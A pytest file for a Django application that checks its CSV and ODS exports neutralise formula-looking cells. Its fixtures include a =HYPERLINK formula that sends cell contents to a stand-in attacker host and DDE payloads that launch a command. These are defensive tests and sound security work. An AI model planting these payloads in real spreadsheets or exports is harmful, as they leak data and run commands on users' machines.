"""Every CSV and ODS export neutralises formula-looking cells (ecm.core.exports)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse

from ecm.core.exports import csv_writer, safe_cell

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Jess O'Neill", "Jess O'Neill"),
        ("a=b", "a=b"),
        ("-12", "-12"),
        ("-1,204.50", "-1,204.50"),
        ("+44.5", "+44.5"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_safe_cell(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def test_the_shared_csv_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", ATTACK])
    writer.writerows([[ATTACK, "-3"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "'" + ATTACK], ["'" + ATTACK, "-3"]]


def test_monitoring_ods_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    from ecm.monitoring.ods import ods_bytes

    data = ods_bytes([("Sheet", [[ATTACK, "-5", "1,204"]])])
    content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
    assert "<text:p>'=HYPERLINK(" in content and "<text:p>=HYPERLINK(" not in content
    assert 'office:value="-5"' in content and 'office:value="1204"' in content


def test_monitoring_cohort_csv_is_neutralised() -> None:
    from ecm.monitoring.selectors import cohort_csv

    text = cohort_csv([["R000001", ATTACK]])
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK(" not in text and ",=HYPERLINK(" not in text


@pytest.mark.django_db
def test_budget_spending_csv_is_neutralised(user_client: Any) -> None:
    from ecm.accounts.choices import Role
    from ecm.budgets.models import Budget
    from ecm.budgets.tests.factories import user_in, world

    w = world()
    Budget.objects.filter(pk=w["budget"].pk).update(name=ATTACK)
    admin = user_in(w["area"], Role.SYSTEM_ADMIN)
    text = user_client(admin).get(reverse("budgets:reports_csv")).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[0] for row in rows if row and "HYPERLINK" in row[0]]
    assert names == ["'" + ATTACK]


@pytest.mark.django_db
def test_linkage_export_links_is_neutralised(tmp_path: Any) -> None:
    from ecm.linkage.models import StagedRecord
    from ecm.linkage.tests.feedfiles import row
    from ecm.linkage.tests.helpers import stage

    stage(
        tmp_path,
        [
            row(
                source="local_systems",
                source_record_id="L1",
                given_name="Jess",
                family_name="Moss",
                date_of_birth="2018-09-07",
            )
        ],
    )
    StagedRecord.objects.update(source_record_id=ATTACK)
    path = tmp_path / "links.csv"
    call_command("export_links", str(path))
    with path.open() as handle:
        exported = list(csv.DictReader(handle))
    assert [r["source_record_id"] for r in exported] == ["'" + ATTACK]
